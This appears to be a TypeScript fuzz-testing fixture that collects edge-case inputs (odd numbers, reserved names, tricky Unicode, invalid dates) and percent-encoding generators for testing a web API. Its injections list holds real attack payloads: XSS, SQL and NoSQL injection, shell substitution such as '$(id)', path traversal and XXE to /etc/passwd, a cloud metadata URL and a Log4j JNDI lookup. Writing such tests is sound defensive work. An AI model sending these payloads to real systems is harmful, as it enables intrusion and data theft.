// Lists values that parsers, caches, logs, templates and databases are known to misread, and generates further ones.
// Values of parameters; hostile-text.ts has the texts of authors.
import fc from 'fast-check';
import { hostileFragments } from './hostile-text.ts';
import { weighted } from './seed.ts';

/** Part of every attack below that tries to appear elsewhere, such as in a header of the answer. */
export const CANARY = 'zq7canary';

// biome-ignore format: side by side they fit on a screen
const numbers = [
  '', ' ', '0', '-0', '+1', '-1', '01', '00020', '1.', '1.0', '.5', '1e3', '1E3', '1e309', '0x14', '0b1', '0o7', '1_000', '1,000', '٢٠', '２０', '²', '½', 'NaN', 'Infinity', '-Infinity', '2147483648', '4294967296', '9007199254740993', '9223372036854775807',
  '9223372036854775808', '18446744073709551616', '9'.repeat(60), '1'.repeat(4000), '12abc34', '20 ', ' 20', '20\n', '20\u0000', '20;', '20,21', '20%', 'true', 'false', 'null', 'undefined', 'nil', 'none', '[object Object]',
];

// biome-ignore format: side by side they fit on a screen
const injections = [
  `"><script>${CANARY}</script>`, `'-alert(1)-'`, `javascript:alert('${CANARY}')`, `\r\nSet-Cookie: ${CANARY}=1`, `\nX-Injected: ${CANARY}`, `%0d%0aX-Injected:%20${CANARY}`, `\u010d\u010aX-Injected: ${CANARY}`, `' OR '1'='1`, `"; DROP TABLE keys; --`, `1;waitfor delay '0:0:9'`,
  `{"$gt":""}`, `{{7*7}}`, `\${7*7}`, '#{7*7}', '<%= 7*7 %>', `\${jndi:ldap://${CANARY}.example/a}`, '$(id)', '`id`', '| id', '; id', '&& id', '%s%s%s%n', '%x%d', '../../../../etc/passwd', '..\\..\\windows', '/etc/passwd', 'file:///etc/passwd', '....//....//', '%2e%2e%2f', '%252e%252e%252f',
  'http://169.254.169.254/latest/meta-data/', 'http://127.0.0.1:1/', 'gopher://a', `https://${CANARY}.example/`, '//evil.example', `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`, ']]>', '<!--', '-->', '*', '(*)', '*)(uid=*', '\\', '\\\\', '"', "'", '""', '[]', '[', '{}', '{',
  'x-amz-date', 'arn:aws:dynamodb:us-east-1:1:table/keys', 'attribute_not_exists(pk)', ':limit', '#n',
];

// biome-ignore format: side by side they fit on a screen
const names = [
  '__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', 'toJSON', 'then', 'length', 'name', 'i', 'I', 'admin', 'api', 'docs', 'search', 'mcp', 'status', 'home', 'login', 'health', 'undefined', 'a-b', '@', '@@jack', '@jack', '%40jack', 'JACK', 'j%61ck', 'ｊack', 'jack\u200b', 'jack.', '_', '_'.repeat(15),
  '_'.repeat(16), 'a'.repeat(5000),
];

// biome-ignore format: side by side they fit on a screen
const unicode = [
  '\u0000', '\u0007', '\u001b[31m', '\u007f', '\u0085', '\u00a0', '\u00ad', '\u200b', '\u200d', '\u202e', '\u2028', '\u2029', '\u2066', '\ufeff', '\ufffd', '\ufffe', '\uffff', '\u{1f3f4}\u{e0067}', '\u{10ffff}', 'e\u0301', 'é', 'ﬀ', 'İ', 'ı', 'ß', 'ẞ', 'Ω', '田中さん', 'مرحبا', 'שלום', '👨‍👩‍👧', '🇳🇴', '\u0301'.repeat(400), '﷽'.repeat(100),
];

// biome-ignore format: side by side they fit on a screen
const dates = ['2026-02-30', '2026-13-01', '0000-00-00', '2026-01-01T25:00:00Z', '2026-01-01T00:00:00+99:99', '+275760-09-13', '-000001-01-01', '1970-01-01', '9999-12-31', '10000-01-01', 'yesterday', '1700000000', '2026-W01', '2026-1-1', '20260101', '2016-12-31T23:59:60Z'];

// biome-ignore format: side by side they fit on a screen
const formats = ['JSON', 'json ', 'html', 'xml', 'pdf', 'rss', 'atom', 'jsonfeed', 'ndjson', 'obsidian', 'markdown', 'text/html', 'json,markdown', 'json;q=1', 'full', 'author', 'off', 'top', 'recent', 'latest', 'users', 'replies', 'research'];

/** Every value once. Texts, not yet percent-encoded. */
export const nastyStrings: readonly string[] = [
  ...new Set([...numbers, ...injections, ...names, ...unicode, ...dates, ...formats]),
];

/** Also includes texts that are not well-formed Unicode. */
export const nastyString: fc.Arbitrary<string> = weighted(
  [8, fc.constantFrom(...nastyStrings)],
  [2, fc.constantFrom(...hostileFragments)],
  [1, fc.tuple(fc.constantFrom(...nastyStrings), fc.constantFrom(...nastyStrings)).map((two) => two.join(''))],
  [1, fc.string({ unit: 'binary', maxLength: 12 })],
  [
    1,
    fc
      .tuple(fc.constantFrom('a', '%', '%41', '=', '/', '"', '\u00e9'), fc.constantFrom(100, 513, 2049, 6001))
      .map(([unit, times]) => unit.repeat(times)),
  ],
);

/** Sequences that are no UTF-8, or that a decoder must not decode twice. Percent-encoded. */
// biome-ignore format: side by side they fit on a screen
const BROKEN_ENCODINGS = [
  '%', '%z', '%zz', '%4', '%c0%af', '%c0%80', '%ed%a0%80', '%f4%90%80%80', '%ff', '%fe%ff', '%E0%A4', '%25zz',
  '%u0041', '+', '%2B', '%20', '%00', '%0a', '%2525',
];

const percentEncodeAll = (text: string): string =>
  [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');

/** Writes a text as a part of a target: as browsers do, with too many or too few escapes, or with broken ones. */
export const percentEncoded = (text: string): fc.Arbitrary<string> => {
  const usual = encodeURIComponent(text.toWellFormed());
  const printable = text.replaceAll(/[^!"$-.0-;=@-~]/g, '');
  return weighted(
    [12, fc.constant(usual)],
    [1, fc.constant(usual.toLowerCase())],
    [1, fc.constant(percentEncodeAll(text.slice(0, 600)))],
    [1, fc.constant(encodeURIComponent(usual))],
    [2, fc.constant(printable)],
    [1, fc.constantFrom(...BROKEN_ENCODINGS).map((broken) => usual + broken)],
  );
};
